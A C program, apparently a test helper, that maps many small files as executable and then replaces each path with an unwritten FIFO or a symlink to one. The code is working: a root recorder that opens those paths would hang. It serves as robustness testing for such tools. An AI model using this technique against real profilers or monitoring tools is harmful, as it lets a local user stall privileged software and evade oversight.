/* SPDX-License-Identifier: MIT */
/*
 * A local user's attack on a root recorder that reads the files of executable mappings by
 * their paths: DIR COUNT INTERVAL_MS maps COUNT files of DIR executable (8 KiB each, not
 * ELF, so no build-id the recorder could have cached), and right after each mapping puts
 * something else at the file's path: a FIFO nobody writes (an open for reading waits for a
 * writer forever), or a symbolic link to one. The mappings stay. Then it waits INTERVAL_MS
 * and goes on; after the last it prints
 *   swapmap mapped=<n> swapped=<n>
 * and, with a fourth argument "wait", sleeps until killed (a process to attach to).
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int map_one(const char *dir, int i)
{
	char path[4096], tmp[4096], fifo[4096], data[8192];
	int fd;

	snprintf(path, sizeof(path), "%s/code-%d.bin", dir, i);
	snprintf(tmp, sizeof(tmp), "%s/.swap-%d", dir, i);
	snprintf(fifo, sizeof(fifo), "%s/.fifo-%d", dir, i);
	memset(data, 0x90 + i % 7, sizeof(data));
	fd = open(path, O_RDWR | O_CREAT | O_TRUNC, 0755);
	if (fd < 0 || write(fd, data, sizeof(data)) != (ssize_t)sizeof(data))
		return -1;
	if (mmap(NULL, sizeof(data), PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0) == MAP_FAILED)
		return -1;
	close(fd);
	/* even: the FIFO itself over the path; odd: a symbolic link to a FIFO elsewhere */
	if (mkfifo(i % 2 ? fifo : tmp, 0600) < 0)
		return 0;
	if (i % 2 && symlink(fifo, tmp) < 0)
		return 0;
	return rename(tmp, path) == 0 ? 1 : 0;
}

int main(int argc, char **argv)
{
	int n, ms, mapped = 0, swapped = 0;
	struct timespec gap;

	if (argc < 4) {
		fprintf(stderr, "usage: swapmap DIR COUNT INTERVAL_MS [wait]\n");
		return 2;
	}
	n = atoi(argv[2]);
	ms = atoi(argv[3]);
	gap = (struct timespec){ ms / 1000, (long)(ms % 1000) * 1000000 };
	for (int i = 0; i < n; i++) {
		int r = map_one(argv[1], i);

		if (r < 0) {
			perror("swapmap");
			return 1;
		}
		mapped++;
		swapped += r;
		nanosleep(&gap, NULL);
	}
	printf("swapmap mapped=%d swapped=%d\n", mapped, swapped);
	fflush(stdout);
	if (argc > 4 && !strcmp(argv[4], "wait"))
		for (;;)
			pause();
	return 0;
}
